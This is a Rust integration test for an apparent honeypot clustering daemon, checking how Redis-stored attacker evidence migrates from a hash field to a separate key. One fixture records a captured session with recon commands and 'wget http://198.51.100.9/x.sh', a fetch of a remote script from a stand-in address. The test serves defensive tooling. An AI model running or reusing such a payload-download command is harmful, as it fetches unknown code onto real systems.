//! An observation's evidence lives in its own key, `{p}:evidence:{uuid}`,
//! so that its hash keeps only the short public fields of SPEC §3 and
//! Redis stores it as a listpack. A store written before that (the
//! evidence in the hash's `evidence` field, as the previous main wrote it)
//! loads as it is, with nothing written at load, and the next write of an
//! observation moves its evidence into the key.
//! The test uses its own key prefix and deletes its keys at the end.

mod common;

use clusterd::repository::{evidence, load_checked, Keys};
use common::*;
use redis::Commands;
use std::collections::BTreeMap;

fn encoding(c: &mut redis::Connection, key: &str) -> String {
    redis::cmd("OBJECT")
        .arg("ENCODING")
        .arg(key)
        .query(c)
        .unwrap_or_else(|e| panic!("OBJECT ENCODING {key}: {e}"))
}

#[test]
fn a_store_with_the_evidence_in_the_hash_loads_and_moves_it_on_write() {
    let prefix = Prefix::new("evkey");
    let p = prefix.0.as_str();
    let keys = Keys::new(p);
    let mut c = conn();
    let daemon = Daemon::start(p);
    let observations = ["e-a", "e-b", "e-c", "e-d"];
    for (o, j) in observations.iter().zip(["j-1", "j-1", "j-2", "j-3"]) {
        observe(p, o, j);
    }
    // A typical observation: an address, an ASN, a session.
    observed(
        p,
        r#"{"uuid":"e-t","ip":"203.0.113.77","asn":64511,"first_seen":"2026-01-02T03:04:05.678Z","last_seen":"2026-01-02T03:09:05.678Z","fingerprints":[{"kind":"ja3","value":"771,4865-4866-4867-49195,0-23-65281-10-11,29-23-24,0"},{"kind":"hassh","value":"ec7378c1a92f5a8dde7e8b7a1ddf33d1"}],"sessions":[{"session_id":"c0ffee00-1111-2222-3333-444455556666","decky_id":"decky-07","started_at":"2026-01-02T03:04:05.678Z","ended_at":"2026-01-02T03:09:05.678Z","commands":["uname -a","cat /proc/cpuinfo","wget http://198.51.100.9/x.sh"]}]}"#,
    );
    eventually("five observations settled", 30, || settled(p, 5));
    assert_eq!(daemon.stop(), 0);

    // As this version writes them: the evidence in its key, the hash a
    // listpack of the public fields only.
    let mut stored = BTreeMap::new();
    for o in observations.iter().chain(&["e-t"]) {
        let e: String = c.get(keys.evidence(o)).unwrap();
        assert!(e.starts_with("~2"), "{o}: {e}");
        let fields: BTreeMap<String, String> = c.hgetall(keys.attacker(o)).unwrap();
        assert!(!fields.contains_key("evidence"), "{o}: {fields:?}");
        for public in [
            "uuid",
            "ip",
            "asn",
            "first_seen",
            "last_seen",
            "identity_id",
        ] {
            assert!(
                fields.contains_key(public),
                "{o} has no {public}: {fields:?}"
            );
        }
        assert_eq!(encoding(&mut c, &keys.attacker(o)), "listpack", "{o}");
        stored.insert(o.to_string(), e);
    }
    assert!(stored["e-t"].len() > 64, "the typical evidence is long");
    let fields: BTreeMap<String, String> = c.hgetall(keys.attacker("e-t")).unwrap();
    assert_eq!(fields["ip"], "203.0.113.77");
    assert_eq!(fields["asn"], "64511");

    // Rewritten as the previous version wrote them: the evidence in the
    // hash (which makes it a hash table), no evidence key.
    for (o, e) in &stored {
        let _: () = c.hset(keys.attacker(o), "evidence", e).unwrap();
        let _: () = c.del(keys.evidence(o)).unwrap();
    }
    assert_eq!(encoding(&mut c, &keys.attacker("e-t")), "hashtable");
    let identities: BTreeMap<String, Option<String>> = stored
        .keys()
        .map(|o| (o.clone(), identity_of(p, o)))
        .collect();

    // It loads as written, with nothing quarantined.
    let (store, bad) = block_on(async {
        let mut a = async_conn().await;
        load_checked(&mut a, &keys, |_, _| {}).await.unwrap()
    });
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(store.observations.len(), stored.len());
    for (o, e) in &stored {
        assert_eq!(&evidence(&store.observations[o.as_str()]), e, "{o}");
    }

    // The daemon loads it, writes nothing at load, and clusters on.
    let daemon = Daemon::start(p);
    eventually("the daemon's heartbeat", 20, || {
        c.exists::<_, bool>(keys.health("clusterer"))
            .unwrap_or(false)
    });
    observe(p, "e-e", "j-3");
    eventually("e-e joined e-d's identity", 30, || {
        identity_of(p, "e-e").is_some() && identity_of(p, "e-e") == identities["e-d"]
    });
    let quarantined: usize = c.xlen(keys.quarantine()).unwrap_or(0);
    assert_eq!(quarantined, 0);
    for (o, e) in &stored {
        let field: Option<String> = c.hget(keys.attacker(o), "evidence").unwrap();
        assert_eq!(field.as_ref(), Some(e), "{o} was rewritten at load");
        assert!(!c.exists::<_, bool>(keys.evidence(o)).unwrap(), "{o}");
        assert_eq!(identity_of(p, o), identities[o], "{o} changed identity");
    }
    assert_eq!(encoding(&mut c, &keys.attacker("e-e")), "listpack");

    // New evidence for e-a: its write moves the evidence into the key.
    observe(p, "e-a", "j-7");
    eventually("e-a's evidence moved to its key", 30, || {
        c.exists::<_, bool>(keys.evidence("e-a")).unwrap_or(false)
    });
    assert!(!c
        .hexists::<_, _, bool>(keys.attacker("e-a"), "evidence")
        .unwrap());
    let moved: String = c.get(keys.evidence("e-a")).unwrap();
    assert_ne!(moved, stored["e-a"], "the new fingerprint is in it");
    assert!(moved.contains("j-7"), "{moved}");
    let uuid: String = c.hget(keys.attacker("e-a"), "uuid").unwrap();
    assert_eq!(uuid, "e-a");
    // The others are as they were.
    for o in ["e-b", "e-c", "e-d", "e-t"] {
        assert!(c
            .hexists::<_, _, bool>(keys.attacker(o), "evidence")
            .unwrap());
        assert!(!c.exists::<_, bool>(keys.evidence(o)).unwrap(), "{o}");
    }
    eventually("settled again", 30, || settled(p, 6));
    assert_eq!(daemon.stop(), 0);

    // Both kinds load side by side, and e-a from its key.
    let (store, bad) = block_on(async {
        let mut a = async_conn().await;
        load_checked(&mut a, &keys, |_, _| {}).await.unwrap()
    });
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(store.observations.len(), 6);
    assert_eq!(evidence(&store.observations["e-a"]), moved);
    assert_eq!(evidence(&store.observations["e-b"]), stored["e-b"]);
}
